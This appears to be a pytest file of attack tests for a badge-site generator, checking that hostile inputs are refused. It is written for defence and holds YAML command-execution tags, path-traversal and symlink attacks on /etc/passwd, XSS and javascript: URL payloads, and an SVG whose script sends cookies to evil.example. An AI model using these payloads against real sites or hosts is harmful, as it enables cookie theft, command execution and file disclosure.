"""Attack tests: one test per threat of docs/security.md, each failing without its mitigation.

In the spirit of python-tuf's ``tests/test_updater_*`` attack tests: every test plays one attacker
from the threat model (a contributor with a malicious PR, an office manager pasting from Word, a
hostile SVG, a thief with a stolen key) against the real command line, and checks the promise the
documentation makes: the attack is refused with a located diagnostic, no traceback and a
non-zero exit; the previous ``output/`` is byte for byte intact; nothing unsafe is published.

Tests marked ``xfail(strict=True)`` document a mitigation that is missing in ``src/``; the
reason names the fix (see docs/security.md, "Open findings"). When the fix lands they XPASS,
which fails the run on purpose: delete the marker then.
"""

from __future__ import annotations

import base64
import hashlib
import html
import json
import os
import re
import shutil
import subprocess
import sys
import textwrap
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from conftest import MINIMAL, TODAY, build, copy_example, publishable, tree_bytes, write_site
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519, rsa

import badgekiln
from badgekiln.errors import printable
from badgekiln.formats.svgsafety import find_active_content

# -- helpers ------------------------------------------------------------------------------------


def located_errors(err: str, rel: str) -> list[str]:
    """Lines of ``err`` that are errors located in the source file ``rel`` (line and column optional)."""
    pattern = re.compile(rf"^{re.escape(rel)}(?::\d+){{0,2}}: error\[[a-z-]+\]: .+$", re.MULTILINE)
    return pattern.findall(err)


def assert_refused(result, rel: str, *fragments: str) -> None:
    """Exit non-zero, no traceback, at least one error located in ``rel`` saying each fragment."""
    assert result.code != 0, result.err
    assert "Traceback" not in result.err + result.out
    lines = located_errors(result.err, rel)
    assert lines, f"no error located in {rel}:\n{result.err}"
    for fragment in fragments:
        assert any(fragment in line for line in lines), (fragment, result.err)


def build_then_break(run, site: Path, files: dict, *, before_break=None):
    """Build a good site, break it, build again; the failed build must leave output/ intact."""
    build(run, site)
    before = tree_bytes(site / "output")
    write_site(site, files)
    if before_break is not None:
        before_break(site)
    result = run("build", "--source", str(site), "--today", TODAY)
    assert tree_bytes(site / "output") == before, "a failed build changed output/"
    return result


def recipient(
    extra: str = "", *, name: str = "Ann Example", email: str = "ann@example.com", award_id: str = "ann-first-1"
) -> str:
    """recipients/ann.yaml text with one award; ``extra`` is indented under the award."""
    return (
        f"name: {json.dumps(name)}\nemail: {json.dumps(email)}\nawards:\n  - id: {json.dumps(award_id)}\n"
        f"    badge: first-badge\n    issued_on: 2026-01-15\n" + textwrap.indent(textwrap.dedent(extra), "    ")
    )


def html_files(out: Path) -> dict[str, str]:
    """Every HTML page of a built site."""
    return {p.relative_to(out).as_posix(): p.read_text(encoding="utf-8") for p in sorted(out.rglob("*.html"))}


def snapshot(root: Path) -> dict[str, tuple]:
    """Every path below ``root``: kind, and for files their mtime and content hash."""
    result: dict[str, tuple] = {}
    for path in root.rglob("*"):
        rel = path.relative_to(root).as_posix()
        if path.is_symlink():
            result[rel] = ("link", os.readlink(path))
        elif path.is_file():
            result[rel] = ("file", path.stat().st_mtime_ns, hashlib.sha256(path.read_bytes()).hexdigest())
        else:
            result[rel] = ("dir",)
    return result


def changed_paths(before: dict, after: dict) -> list[str]:
    return sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))


# ============================================================================================
# 1. Hostile YAML (contributor with a malicious PR; office manager's broken export)
# ============================================================================================

BILLION_LAUGHS = """
    name: Ann Example
    email: ann@example.com
    lol0: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
    lol1: &l1 [*l0, *l0, *l0, *l0, *l0, *l0, *l0, *l0, *l0]
    lol2: &l2 [*l1, *l1, *l1, *l1, *l1, *l1, *l1, *l1, *l1]
    lol3: [*l2, *l2, *l2, *l2, *l2, *l2, *l2, *l2, *l2]
    awards: []
"""
ALIAS_ONLY = """
    name: Ann Example
    email: ann@example.com
    awards: *nowhere
"""
PYTHON_TAG = """
    name: !!python/object/apply:os.system ["touch {marker}"]
    email: ann@example.com
    awards: []
"""
PYTHON_TAG_NEW = """
    name: !!python/object/new:os.system ["touch {marker}"]
    email: ann@example.com
    awards: []
"""
DUPLICATE_KEYS = """
    name: Ann Example
    email: ann@example.com
    email: mallory@evil.example
    awards: []
"""
DEEP = "awards:\n" + "".join("  " * i + "- \n" for i in range(1, 30)) + "  " * 30 + "- x\n"
DEEP_FLOW = "name: " + "[" * 200 + "]" * 200 + "\n"
BIG_INT = "name: Ann\nemail: ann@example.com\nshow_name: " + "1" * 5000 + "\nawards: []\n"

YAML_ATTACKS = {
    "billion-laughs": (BILLION_LAUGHS, "anchors"),
    "alias": (ALIAS_ONLY, "aliases"),
    "python-object-apply": (PYTHON_TAG, "tags"),
    "python-object-new": (PYTHON_TAG_NEW, "tags"),
    "duplicate-key": (DUPLICATE_KEYS, "duplicate key 'email'"),
    "deep-nesting-block": (DEEP, "nested"),
    "deep-nesting-flow": (DEEP_FLOW, "nested"),
    "oversized-file": ("name: Ann\n# " + "x" * (2 * 1024 * 1024 + 10) + "\n", "limit"),
    "not-utf8-latin1": (b"name: Jos\xe9 Example\nemail: jose@example.com\nawards: []\n", "UTF-8"),
    "not-utf8-utf16": ("name: Ann\nemail: ann@example.com\nawards: []\n".encode("utf-16"), "UTF-8"),
}


@pytest.mark.parametrize("content, says", YAML_ATTACKS.values(), ids=YAML_ATTACKS.keys())
def test_hostile_yaml_is_refused_with_a_located_error_and_output_kept(minimal_site, run, tmp_path, content, says):
    marker = tmp_path / "pwned"
    if isinstance(content, str):
        content = textwrap.dedent(content).lstrip("\n").replace("{marker}", str(marker))
    result = build_then_break(run, minimal_site, {"recipients/ann.yaml": content})
    assert_refused(result, "recipients/ann.yaml", says)
    assert not marker.exists(), "a YAML tag ran a command"


def test_yaml_number_too_long_for_python_is_a_located_error(minimal_site, run):
    # int('1' * 5000) raises ValueError (CPython's 4300-digit limit), which PyYAML does not
    # translate: without a guard in loading.py the build dies with a traceback.
    result = build_then_break(run, minimal_site, {"recipients/ann.yaml": BIG_INT})
    assert_refused(result, "recipients/ann.yaml", "number")


@pytest.mark.parametrize("char", ["\x0b", "\x0c", "\x00", "\x1b", "\x7f"], ids=["VT", "FF", "NUL", "ESC", "DEL"])
def test_control_character_pasted_from_word_is_a_located_error(minimal_site, run, char):
    # Word's manual line break (Shift+Enter) pastes as U+000B, a page break as U+000C.
    result = build_then_break(
        run,
        minimal_site,
        {
            "recipients/ann.yaml": recipient(name=f"Ann{char}Example").replace(
                json.dumps(f"Ann{char}Example"), f"Ann{char}Example"
            )
        },
    )
    assert_refused(result, "recipients/ann.yaml", "control character")


def test_check_command_refuses_hostile_yaml_too(minimal_site, run):
    write_site(minimal_site, {"badges/first-badge.yaml": BILLION_LAUGHS})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    assert_refused(result, "badges/first-badge.yaml", "anchors")
    assert not (minimal_site / "output").exists()


@pytest.mark.parametrize("target", ["outside", "/etc/passwd"])
def test_symlinked_recipient_file_leaving_the_repo_is_refused(minimal_site, run, tmp_path, target):
    outside = tmp_path / "outside.yaml"
    outside.write_text(recipient(), encoding="utf-8")
    link_to = outside if target == "outside" else Path(target)

    def link(site: Path) -> None:
        (site / "recipients" / "evil.yaml").symlink_to(link_to)

    result = build_then_break(run, minimal_site, {}, before_break=link)
    assert_refused(result, "recipients/evil.yaml", "symbolic link")
    assert "root:" not in result.err  # nothing of /etc/passwd is echoed


def test_symlinked_site_yaml_is_refused(minimal_site, run, tmp_path):
    real = minimal_site / "site_src" / "site.yaml"
    moved = tmp_path / "site.yaml"

    def link(site: Path) -> None:
        real.rename(moved)
        real.symlink_to(moved)

    result = build_then_break(run, minimal_site, {}, before_break=link)
    assert_refused(result, "site_src/site.yaml", "symbolic link")


@pytest.mark.parametrize(
    "image",
    [
        "../../etc/passwd",
        "../../../../../../etc/passwd",
        "/etc/passwd",
        "assets/../../recipients/ann.yaml",
        "../outside.svg",
        "/etc/hostname.svg",
    ],
)
def test_badge_image_path_leaving_site_src_is_refused(minimal_site, run, image):
    (minimal_site / "outside.svg").write_bytes(MINIMAL["site_src/assets/badge.svg"])
    badge = f"name: First Badge\ndescription: d\nimage: {json.dumps(image)}\ncriteria: c\n"
    result = build_then_break(run, minimal_site, {"badges/first-badge.yaml": badge})
    assert_refused(result, "badges/first-badge.yaml", "image")


def test_badge_image_symlink_leaving_site_src_is_refused(minimal_site, run, tmp_path):
    outside = tmp_path / "stolen.svg"
    outside.write_bytes(MINIMAL["site_src/assets/badge.svg"])
    badge = "name: First Badge\ndescription: d\nimage: assets/link.svg\ncriteria: c\n"

    def link(site: Path) -> None:
        (site / "site_src" / "assets" / "link.svg").symlink_to(outside)

    result = build_then_break(run, minimal_site, {"badges/first-badge.yaml": badge}, before_break=link)
    assert_refused(result, "badges/first-badge.yaml", "inside site_src")


def test_issuer_logo_symlink_to_a_host_file_is_refused(minimal_site, run):
    site_yaml = textwrap.dedent(MINIMAL["site_src/site.yaml"]) + "  image: assets/logo.png\n"

    def link(site: Path) -> None:
        (site / "site_src" / "assets" / "logo.png").symlink_to("/etc/passwd")

    result = build_then_break(run, minimal_site, {"site_src/site.yaml": site_yaml}, before_break=link)
    assert_refused(result, "site_src/site.yaml", "image")


def test_unreferenced_asset_symlinks_are_not_published(minimal_site, run, tmp_path):
    secret_dir = tmp_path / "host-secrets"
    secret_dir.mkdir()
    (secret_dir / "secret.png").write_bytes(b"\x89PNG\r\n\x1a\nHOST-SECRET")
    (minimal_site / "site_src/assets/file-link.png").symlink_to(secret_dir / "secret.png")
    (minimal_site / "site_src/assets/dir-link").symlink_to(secret_dir, target_is_directory=True)
    build(run, minimal_site)
    for rel, content in tree_bytes(minimal_site / "output").items():
        assert b"HOST-SECRET" not in content, rel


# ============================================================================================
# 2. Path tricks: names that would escape output/ or impersonate another award
# ============================================================================================

BAD_FILE_NAMES = ["First Badge", "Ann", "-ann", ".ann", "ann_b", "\u0430nn", "ann\u200b", "ａnn", "ann.b"]


@pytest.mark.parametrize("folder", ["badges", "recipients"])
@pytest.mark.parametrize("stem", BAD_FILE_NAMES, ids=lambda s: s.encode("unicode_escape").decode())
def test_source_file_names_that_are_not_slugs_are_refused(minimal_site, run, folder, stem):
    content = (
        MINIMAL["badges/first-badge.yaml"]
        if folder == "badges"
        else recipient(award_id="zed-first-1", email="zed@example.com")
    )
    write_site(minimal_site, {f"{folder}/{stem}.yaml": content})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    # (named as printed: "ann\\u200b.yaml", an invisible character shown as its escape)
    assert_refused(result, printable(f"{folder}/{stem}.yaml", newlines=False), "not a valid slug")


@pytest.mark.parametrize("folder", ["badges", "recipients"])
def test_source_file_name_with_a_trailing_newline_is_refused(minimal_site, run, folder):
    # SLUG_RE ends in '$', which also matches before a final '\n': "ann\n" passes as a slug.
    content = (
        MINIMAL["badges/first-badge.yaml"]
        if folder == "badges"
        else recipient(award_id="zed-first-1", email="zed@example.com")
    )
    write_site(minimal_site, {f"{folder}/zed\n.yaml": content})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    # (the name as the error shows it: its line break escaped, so it cannot fake a line of its own)
    assert_refused(result, f"{folder}/zed\\x0a.yaml", "not a valid slug")


BAD_AWARD_IDS = [
    "../../x",
    "..",
    ".",
    "a/b",
    "abcd/../../x",
    "ABCD-1",
    "Ann-first-1",
    "\u0430nn-first-1",
    "ａｎｎ-first-1",
    "ann first 1",
    "ann_first_1",
    "ann%2ffirst",
    "-ann-first",
    "abc",
    "x" * 65,
    "ann-first-1\u200b",
    "ann-first-1\u0000",
]


@pytest.mark.parametrize("award_id", BAD_AWARD_IDS, ids=lambda s: s.encode("unicode_escape").decode()[:20])
def test_award_ids_that_could_escape_or_impersonate_are_refused(minimal_site, run, award_id):
    write_site(minimal_site, {"recipients/ann.yaml": recipient(award_id=award_id)})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    assert_refused(result, "recipients/ann.yaml", "'id'")


def test_award_id_with_a_trailing_newline_is_refused(minimal_site, run):
    # "ann-first-1\n" passes AWARD_ID_RE (its '$' matches before the newline); `check` says ok and
    # only the writer's path guard stops the build, without a location.
    write_site(minimal_site, {"recipients/ann.yaml": recipient(award_id="ann-first-1\n")})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    assert_refused(result, "recipients/ann.yaml", "'id'")


@pytest.mark.parametrize("badge", ["../first-badge", "first-badge/../../x", "First-Badge", "first-badge\u200b"])
def test_award_badge_reference_must_be_a_slug(minimal_site, run, badge):
    text = recipient().replace("badge: first-badge", f"badge: {json.dumps(badge)}")
    write_site(minimal_site, {"recipients/ann.yaml": text})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    assert_refused(result, "recipients/ann.yaml", "'badge'")


def test_two_earners_cannot_share_an_award_id(minimal_site, run):
    write_site(minimal_site, {"recipients/mallory.yaml": recipient(name="Mallory", email="mallory@example.com")})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    assert result.code != 0 and "Traceback" not in result.err
    lines = located_errors(result.err, "recipients/ann.yaml") + located_errors(result.err, "recipients/mallory.yaml")
    assert any("error[duplicate-id]" in line for line in lines), result.err


# ============================================================================================
# 3. Stored XSS and template injection in the published pages
# ============================================================================================

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}",
    "'><svg/onload=alert(1)> ]]><script>alert(1)</script><![CDATA[",
]
MARKDOWN_ATTACKS = textwrap.dedent("""
    <script>alert('md')</script>

    <iframe src="https://evil.example/"></iframe>

    <img src=x onerror=alert(1)>

    [js](javascript:alert(1)) [JS](JaVaScRiPt:alert(1)) [ent](&#106;avascript:alert(1))
    [data](data:text/html,<script>alert(1)</script>) [b64](data:text/html;base64,PHNjcmlwdD4=)
    [vb](vbscript:msgbox(1)) ![img](javascript:alert(1)) <javascript:alert(1)>
    [png](data:image/png;base64,iVBORw0KGgo=) ![gif](data:image/gif;base64,R0lGODlhAQABAAAAACw=)

    [ref][r] <a href="javascript:alert(1)">raw</a>

    [r]: javascript:alert(1)
""")
OUR_SCRIPT = re.compile(r"^(?:\.\./)*assets/(?:badgekiln|verify|check)\.js$")
SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}


class PageAudit(HTMLParser):
    """Everything live in one HTML page that did not come from our templates."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.ld_json: list[str] = []
        self.text: list[str] = []
        self._script: dict | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self._element(tag, attrs)

    def handle_startendtag(self, tag, attrs):
        self._element(tag, attrs)
        if tag == "script":
            self.handle_endtag("script")

    def _element(self, tag, attrs):
        values = dict(attrs)
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=>")
            if name == "style":
                self.problems.append(f"<{tag} style=>")
            if name in URL_ATTRIBUTES:
                scheme = SCHEME.match(re.sub(r"[\x00-\x20]", "", value))
                if scheme and scheme.group(1).lower() not in {"http", "https", "mailto"}:
                    self.problems.append(f"<{tag} {name}={value!r}>")
        if tag in {"iframe", "frame", "object", "embed", "applet", "base", "form", "style", "foreignobject"}:
            self.problems.append(f"<{tag}>")
        if tag == "meta" and values.get("http-equiv", "").lower() not in ("", "content-security-policy"):
            self.problems.append(f"<meta http-equiv={values['http-equiv']}>")
        if tag == "svg" and values.get("aria-label") != "QR code of this page":
            self.problems.append("<svg> that is not our QR code")
        if tag == "img" and values.get("src", "x").startswith(("http:", "https:", "//")):
            self.problems.append(f"<img src={values['src']}> from another site")
        if tag == "script":
            self._script, self._script_text = values, []

    def handle_data(self, data):
        if self._script is not None:
            self._script_text.append(data)
        else:
            self.text.append(data)

    def handle_endtag(self, tag):
        if tag != "script" or self._script is None:
            return
        script, body = self._script, "".join(self._script_text)
        self._script = None
        if script.get("type") == "application/ld+json" and "src" not in script:
            self.ld_json.append(body)
        elif OUR_SCRIPT.match(script.get("src") or "") and not body.strip() and set(script) <= {"src", "defer"}:
            pass
        else:
            self.problems.append(f"<script {script}>{body[:40]}")


def audit(page: str) -> PageAudit:
    parser = PageAudit()
    parser.feed(page)
    parser.close()
    return parser


def xss_site(root: Path, payload: str) -> Path:
    """A site with ``payload`` in every text field that reaches a page."""
    single = json.dumps(payload)
    url_payload = json.dumps("https://example.org/x?q=" + quote(payload, safe="'/()=;"))
    return write_site(
        root,
        {
            **MINIMAL,
            "site_src/site.yaml": f"""
            base_url: https://badges.example.org/
            title: {single}
            footer: {single}
            issuer:
              name: {single}
              url: https://example.org
              email: badges@example.org
              description: {single}
              telephone: "+44 1642 000000"
        """,
            "badges/first-badge.yaml": f"""
            name: {single}
            description: {single}
            image: assets/badge.svg
            tags: [{single}]
            criteria: {json.dumps(payload + chr(10) + chr(10) + MARKDOWN_ATTACKS)}
            alignment:
              - name: {single}
                url: {url_payload}
                framework: {single}
                code: {json.dumps(payload[:100])}
                description: {single}
        """,
            "recipients/ann.yaml": f"""
            name: {single}
            email: ann@example.com
            awards:
              - id: ann-first-1
                badge: first-badge
                issued_on: 2026-01-15
                narrative: {single}
                evidence:
                  - url: {url_payload}
                    name: {single}
                    narrative: {single}
                    description: {single}
              - id: ann-first-2
                badge: first-badge
                issued_on: 2026-01-16
                revoked:
                  on: 2026-02-01
                  reason: {single}
        """,
            "site_src/pages/evil.md": f"---\ntitle: {single}\ndescription: {single}\n---\n{payload}\n\n{MARKDOWN_ATTACKS}",
        },
    )


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_source_text_never_becomes_live_html(tmp_path, run, payload):
    site = xss_site(tmp_path / "site", payload)
    build(run, site)
    pages = html_files(site / "output")
    assert {"awards/ann-first-1/index.html", "badges/first-badge/index.html", "pages/evil/index.html"} <= set(pages)
    shown = 0
    for rel, page in pages.items():
        found = audit(page)
        assert found.problems == [], (rel, found.problems)
        for block in found.ld_json:
            assert "<" not in block and ">" not in block, rel
            json.loads(block)
        shown += "".join(found.text).count(payload.strip())
    # The payload is shown as text (escaped), not silently dropped: escaping, not filtering.
    assert shown >= 5


def test_award_page_ld_json_escapes_markup(tmp_path, run):
    site = xss_site(tmp_path / "site", "</script><script>alert(1)</script>")
    build(run, site)
    page = (site / "output/awards/ann-first-1/index.html").read_text(encoding="utf-8")
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', page, re.DOTALL).group(1)
    assert "<" not in block and "\\u003c/script\\u003e" in block
    assert json.loads(block)["name"] == "</script><script>alert(1)</script>"


def test_markdown_links_are_limited_to_web_and_mail(tmp_path, run):
    site = xss_site(tmp_path / "site", "plain")
    build(run, site)
    for rel in ("badges/first-badge/index.html", "pages/evil/index.html", "awards/ann-first-1/index.html"):
        found = audit((site / "output" / rel).read_text(encoding="utf-8"))
        assert found.problems == [], (rel, found.problems)
        text = "".join(found.text)
        # The links are defused, their words kept; raw HTML is shown as text, never parsed.
        assert "js" in text and "<iframe" in text and "<script>alert('md')</script>" in text, rel


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "https:javascript:alert(1)",
        "//evil.example/x",
        "ftp://example.org/x",
        "file:///etc/passwd",
        "java\tscript:alert(1)",
        "https://exa mple.org/",
    ],
)
@pytest.mark.parametrize("where", ["evidence", "alignment"])
def test_evidence_and_alignment_urls_must_be_http_or_https(minimal_site, run, url, where):
    if where == "evidence":
        write_site(minimal_site, {"recipients/ann.yaml": recipient(f"evidence:\n  - url: {json.dumps(url)}\n")})
        rel = "recipients/ann.yaml"
    else:
        write_site(
            minimal_site,
            {
                "badges/first-badge.yaml": textwrap.dedent(MINIMAL["badges/first-badge.yaml"])
                + f"alignment:\n  - name: Role\n    url: {json.dumps(url)}\n"
            },
        )
        rel = "badges/first-badge.yaml"
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    assert_refused(result, rel, "bad-url")


@pytest.mark.parametrize("field", ["url", "image"])
def test_issuer_url_and_logo_cannot_carry_script(minimal_site, run, field):
    value = "javascript:alert(1)" if field == "url" else "javascript:alert(1).svg"
    site_yaml = textwrap.dedent(MINIMAL["site_src/site.yaml"])
    site_yaml = (
        site_yaml.replace("url: https://example.org", f"url: {json.dumps(value)}")
        if field == "url"
        else site_yaml + f"  image: {json.dumps(value)}\n"
    )
    write_site(minimal_site, {"site_src/site.yaml": site_yaml})
    result = run("check", "--source", str(minimal_site), "--today", TODAY)
    assert_refused(result, "site_src/site.yaml")


def test_every_published_svg_is_free_of_active_content(tmp_path, run):
    # Badge names, narratives and evidence are baked into awards/<id>/badge.svg (CDATA): a
    # payload ending the CDATA section must stay text.
    site = xss_site(tmp_path / "site", "]]><script xmlns='http://www.w3.org/2000/svg'>alert(1)</script><![CDATA[")
    build(run, site)
    svgs = sorted((site / "output").rglob("*.svg"))
    assert any("awards" in p.parts for p in svgs)
    for path in svgs:
        assert find_active_content(path.read_bytes()) == [], path


HOSTILE_ARTWORK = b"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(document.domain)">
<script>fetch('https://evil.example/?c='+document.cookie)</script><circle r="4"/></svg>
"""


def test_badge_artwork_with_script_is_refused(minimal_site, run):
    result = build_then_break(run, minimal_site, {"site_src/assets/badge.svg": HOSTILE_ARTWORK})
    assert_refused(result, "badges/first-badge.yaml", "unsafe-svg")


def test_issuer_logo_with_script_is_refused(minimal_site, run):
    site_yaml = textwrap.dedent(MINIMAL["site_src/site.yaml"]) + "  image: assets/logo.svg\n"
    result = build_then_break(
        run, minimal_site, {"site_src/site.yaml": site_yaml, "site_src/assets/logo.svg": HOSTILE_ARTWORK}
    )
    assert_refused(result, "site_src/site.yaml", "unsafe-svg")


def test_unreferenced_hostile_svg_in_assets_is_refused(minimal_site, run):
    result = build_then_break(run, minimal_site, {"site_src/assets/extra/phish.svg": HOSTILE_ARTWORK})
    assert_refused(result, "site_src/assets/extra/phish.svg", "unsafe-svg")


# ============================================================================================
# 4. The build host: no network, writes only where it says
# ============================================================================================

NO_NETWORK = r"""
import socket, sys
log = sys.argv[1]
def attempt(what):
    with open(log, "a") as handle:
        handle.write(what + "\n")
    raise OSError("network access during a build: " + what)
def hook(event, args):
    # (urllib3 binds a socket to ::1 on import to probe for IPv6: local, so 'bind' is not listed.)
    if event.startswith(("socket.connect", "socket.getaddrinfo", "socket.gethostby", "socket.sendto",
                         "socket.sendmsg", "http.client.connect", "urllib.Request", "ftplib.connect",
                         "smtplib.connect")):
        attempt(event)
sys.addaudithook(hook)
def refuse(*args, **kwargs):
    attempt("patched socket function")
socket.socket.connect = socket.socket.connect_ex = refuse
socket.getaddrinfo = socket.create_connection = socket.gethostbyname = refuse
from badgekiln.cli import main
main(sys.argv[2:])
"""


def _same_badgekiln_env() -> dict[str, str]:
    """The environment for a child Python that imports the badgekiln under test."""
    package_root = str(Path(badgekiln.__file__).resolve().parent.parent)
    env = dict(os.environ)
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [package_root, env.get("PYTHONPATH")]))
    return env


def test_build_makes_no_network_connection(tmp_path):
    site = copy_example(tmp_path / "site")
    log = tmp_path / "network-attempts.log"
    for command in (["check"], ["build"]):
        proc = subprocess.run(
            [sys.executable, "-c", NO_NETWORK, str(log), *command, "--source", str(site), "--today", TODAY],
            capture_output=True,
            text=True,
            timeout=300,
            env=_same_badgekiln_env(),
        )
        assert proc.returncode == 0, proc.stderr
        assert "Traceback" not in proc.stderr
        assert not log.exists(), log.read_text()
    assert (site / "output/index.html").is_file()


def test_the_probe_would_notice_a_connection(tmp_path):
    # The guard above is only worth something if it really catches a connection attempt.
    log = tmp_path / "network-attempts.log"
    code = NO_NETWORK.replace(
        "from badgekiln.cli import main\nmain(sys.argv[2:])",
        "import urllib.request\ntry:\n"
        "    urllib.request.urlopen('http://192.0.2.1/', timeout=1)\n"
        "except OSError:\n    pass\n",
    )
    subprocess.run([sys.executable, "-c", code, str(log)], capture_output=True, text=True, timeout=60)
    assert log.exists() and log.read_text().strip()


@pytest.mark.parametrize("where", ["source", "parent", "foreign", "recipients", "site_src", "home-like"])
def test_output_folder_that_is_not_ours_is_refused(minimal_site, run, tmp_path, where):
    foreign = tmp_path / "my-documents"
    write_site(foreign, {"thesis.txt": "five years of work\n"})
    target = {
        "source": minimal_site,
        "parent": tmp_path,
        "foreign": foreign,
        "recipients": minimal_site / "recipients",
        "site_src": minimal_site / "site_src",
        "home-like": tmp_path / "home",
    }[where]
    if where == "home-like":
        write_site(target, {".bashrc": "alias ls='ls -F'\n", ".git/config": "[core]\n"})
    before = snapshot(tmp_path)
    result = run("build", "--source", str(minimal_site), "--today", TODAY, "--output", str(target))
    assert result.code != 0 and "Traceback" not in result.err
    assert result.err.startswith("error: ") and str(target) in result.err
    # (The build cache may open its own folder, site/.badgekiln/, before the output is checked.)
    assert [p for p in changed_paths(before, snapshot(tmp_path)) if not p.startswith("site/.badgekiln")] == []


def test_a_build_writes_only_output_cache_pinned_ids_and_the_ledger(minimal_site, run, tmp_path):
    write_site(
        minimal_site,
        {
            "recipients/ann.yaml": recipient().replace('  - id: "ann-first-1"\n    badge', "  - badge"),
            "recipients/bob.yaml": recipient(name="Bob", email="bob@example.com", award_id="bob-first-1"),
        },
    )
    build(run, minimal_site)  # a first build, so that the second one replaces an existing output/
    write_site(
        minimal_site,
        {
            "recipients/cy.yaml": recipient(name="Cy", email="cy@example.com").replace(
                '  - id: "ann-first-1"\n    badge', "  - badge"
            )
        },
    )
    before = snapshot(tmp_path)
    build(run, minimal_site)
    changed = changed_paths(before, snapshot(tmp_path))
    # .badgekiln/ is the incremental build cache (git-ignored; badgekiln.engine.cache), output/ links into it.
    allowed = re.compile(
        r"^site/(?:output(?:/.*)?|\.badgekiln(?:/.*)?|recipients/[a-z0-9-]+\.yaml"
        r"|site_src/awards\.lock)$"
    )
    assert [p for p in changed if not allowed.match(p)] == []
    assert "site/recipients/cy.yaml" in changed and "site/site_src/awards.lock" in changed
    assert "site/recipients/bob.yaml" not in changed and "site/recipients/ann.yaml" not in changed


def test_frozen_build_writes_nothing_but_output(minimal_site, run, tmp_path):
    build(run, minimal_site)
    before = snapshot(tmp_path)
    build(run, minimal_site, "--frozen")
    changed = changed_paths(before, snapshot(tmp_path))
    assert [p for p in changed if not p.startswith(("site/output", "site/.badgekiln"))] == []


def _poison_cache_in_place(site: Path) -> int:
    """Rewrite every cached blob that shows the earner's name, keeping inode and size."""
    poisoned = 0
    for blob in (site / ".badgekiln" / "cache" / "blobs").rglob("*"):
        if blob.is_file() and b"Ann Example" in blob.read_bytes():
            with open(blob, "r+b") as handle:  # same inode, same size: what the cache checks
                handle.write(blob.read_bytes().replace(b"Ann Example", b"<script>1//"))
            poisoned += 1
    return poisoned


def test_a_build_cache_committed_to_git_is_not_trusted(minimal_site, run):
    # A PR can force-add .badgekiln/ with blobs holding anything; reusing them would skip escaping,
    # the SVG check and the secret scan. badgekiln.engine.cache refuses a cache that git tracks.
    if shutil.which("git") is None:
        pytest.skip("git is not installed")

    def git(*args: str) -> None:
        subprocess.run(
            ["git", "-c", "user.name=t", "-c", "user.email=t@example.org", "-C", str(minimal_site), *args],
            check=True,
            capture_output=True,
            timeout=60,
        )

    git("init", "-q")
    build(run, minimal_site)
    if not (minimal_site / ".badgekiln" / "cache").is_dir():
        pytest.skip("this version has no build cache")
    assert _poison_cache_in_place(minimal_site)
    git("add", "-f", ".badgekiln")
    git("commit", "-q", "-m", "a helpful cache")
    build(run, minimal_site)
    for rel, page in html_files(minimal_site / "output").items():
        assert "<script>1//" not in page, rel
    assert "Ann Example" in (minimal_site / "output/awards/ann-first-1/index.html").read_text(encoding="utf-8")


# ============================================================================================
# 5. Keys: the private key never reaches the repository or the published site
# ============================================================================================


def test_private_key_committed_to_site_src_keys_is_refused(minimal_site, run):
    key = ed25519.Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    result = build_then_break(run, minimal_site, {"site_src/keys/oops.pem": key})
    assert_refused(result, "site_src/keys/oops.pem", "PRIVATE key")


def test_private_key_in_a_key_record_is_refused(minimal_site, run):
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048).private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.TraditionalOpenSSL, serialization.NoEncryption()
    )
    record = "algorithm: RS256\ncreated: 2026-01-01\npublic_key: |\n" + textwrap.indent(key.decode(), "  ")
    result = build_then_break(run, minimal_site, {"site_src/keys/2026-01-01-rsa-abcdef.yaml": record})
    assert_refused(result, "site_src/keys/2026-01-01-rsa-abcdef.yaml", "PRIVATE key")


@pytest.mark.parametrize("inside", ["source", "site_src", "output"])
def test_private_keys_folder_inside_the_repo_or_output_is_refused(minimal_site, run, monkeypatch, tmp_path, inside):
    out = tmp_path / "public"
    build(run, minimal_site, "--output", str(out))
    before = tree_bytes(out)
    folder = {
        "source": minimal_site / "private",
        "site_src": minimal_site / "site_src" / "keys" / "private",
        "output": out / "private",
    }[inside]
    folder.mkdir(parents=True)
    monkeypatch.setenv("BADGEKILN_KEYS_DIR", str(folder))
    if inside != "output":  # 'keys generate' knows the sources, not where a later build will write
        generated = run("keys", "generate", "--source", str(minimal_site), "--today", TODAY)
        assert generated.code != 0 and "refusing to use private keys" in generated.err
        assert not list(folder.iterdir()), "a private key was written inside the repository"
    result = run("build", "--source", str(minimal_site), "--today", TODAY, "--output", str(out))
    assert result.code != 0 and "Traceback" not in result.err
    assert "refusing to use private keys" in result.err
